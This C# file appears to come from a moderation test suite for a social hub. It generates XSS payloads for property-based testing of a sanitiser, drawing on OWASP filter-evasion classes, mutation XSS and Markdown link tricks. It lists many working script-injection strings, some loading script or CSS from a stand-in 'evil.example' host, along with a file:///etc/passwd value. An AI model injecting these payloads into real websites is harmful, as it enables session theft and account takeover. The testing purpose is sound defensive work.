using CsCheck;

namespace SocialHub.Tests.Moderation;

/// <summary>
/// Cross-site scripting payloads. Written for this hub after the classes of OWASP's "XSS Filter Evasion Cheat Sheet"
/// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), with those of mutation XSS (Heiderich et al. 2013)
/// and of Markdown writers: each element or way in is crossed with each way to run, so none is forgotten.
/// </summary>
internal static class Payloads
{
    private static readonly string[] Runs =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "jav\tascript:alert(1)", "jav\nascript:alert(1)", "java\0script:alert(1)", " javascript:alert(1)", "\u0001javascript:alert(1)",
        "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&#115;cript:alert(1)", "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "//evil.example/x.js",
        "javascript://www.example.com/%0Aalert(1)", "livescript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "file:///etc/passwd", "blob:https://a/b", "javascript\u200B:alert(1)",
        "https://a.example\" onmouseover=\"alert(1)", "https://a.example' onmouseover='alert(1)", "https://a.example onmouseover=alert(1)", "https://a.example><script>alert(1)</script>",
    ];

    private static readonly string[] Carriers =
    [
        "[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", "[x]: {0}\n\n[x]", "[x]({0} \"t\")", "[x]( {0} )", "[![y]({0})]({0})", "<a href=\"{0}\">x</a>", "<img src=\"{0}\">", "<iframe src='{0}'></iframe>", "<form action={0}><button>x</button></form>",
    ];

    private static readonly string[] Whole =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<<script>alert(1);//<</script>", "<script/xss src=x></script>", "<script\n>alert(1)</script\n>", "<img src=x onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=\"jav&#x09;ascript:alert(1);\">", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert&#40;1)</script>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<body onload=alert(1)>", "<body background=\"javascript:alert(1)\">", "<bgsound src=\"javascript:alert(1)\">", "<link rel=stylesheet href=javascript:alert(1)>",
        "<style>@import'//evil.example/x.css';</style>", "<style>body{background:url(javascript:alert(1))}</style>", "<div style=\"background-image:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">", "<p style=position:fixed;inset:0>x</p>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset><frame src=javascript:alert(1)></frameset>",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>", "<input type=image src=javascript:alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<video poster=javascript:alert(1)>", "<audio src onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<button formaction=javascript:alert(1)>x",
        "<a onmouseover=alert(1)>x</a>", "<a href=javascript&colon;alert(1)>x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a target=_blank href=https://a.example ping=//evil.example>x</a>", "<p id=getElementById>x", "<form name=document><input name=cookie></form>", "<img name=body>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<? echo('<scr)'; echo('ipt>alert(1)</script>'); ?>",
        "<xss onclick=alert(1)>x</xss>", "<x contenteditable onblur=alert(1)>x", "<custom-element onclick=alert(1)>", "<dialog open><form method=dialog>", "<portal src=//evil.example>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<listing>&ltimg onerror=alert(1) src=x&gt;</listing>",
        "</p><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "`><script>alert(1)</script>", "`<script>alert(1)</script>", "```\n<script>alert(1)</script>\n```",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00BCscript\u00BEalert(1)\u00BC/script\u00BE", "＜script＞alert(1)＜/script＞", "\uD800<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
        "*<script>*alert(1)*</script>*", "[a](<javascript:alert(1)>)", "[a](javascript:alert`1`)", "[a][b]\n\n[b]: javascript:alert(1)", "[<img src=x onerror=alert(1)>](https://a.example)", "[a](https://a.example \"x\\\" onmouseover=alert(1) \\\"\")", "![](\"onerror=\"alert(1))", "[a](https://a.example\"onclick=\"alert(1))",
        "https://a.example/\"onmouseover=\"alert(1)", "http://<script>alert(1)</script>", "www.a.example\"><img src=x onerror=alert(1)>", "<https://a.example/\"onclick=alert(1)>", "<javascript:alert(1)>", "<mailto:a@b.example?body=<script>>", "1. <script>\n2. alert(1)\n3. </script>", "> <script>\n> alert(1)\n> </script>",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Whole, .. Runs, .. Carriers.SelectMany(carrier => Runs.Select(run => carrier.Replace("{0}", run, StringComparison.Ordinal)))];

    private static readonly Gen<string> Any = Gen.Int[0, All.Count - 1].Select(i => All[i]);

    /// <summary>Payloads cut, joined and mixed with other text.</summary>
    public static Gen<string> Mutated { get; } =
        Gen.Select(Any, Gen.Int[0, 40], Any, Gen.Int[0, 40], AnyText.Strings, Gen.Int[0, 5])
            .Select((one, cut, other, otherCut, text, way) => (one[Math.Min(cut, one.Length)..], other[..^Math.Min(otherCut, other.Length)], text, way))
            .Select(parts => parts.way switch
            {
                0 => parts.Item1 + parts.Item2,
                1 => parts.Item2 + parts.text + parts.Item1,
                2 => "> " + parts.Item1 + "\n- " + parts.Item2,
                3 => "[" + parts.Item1 + "](" + parts.Item2 + ")",
                4 => "`" + parts.Item1 + "*" + parts.Item2 + parts.text,
                _ => parts.text + parts.Item1,
            });
}
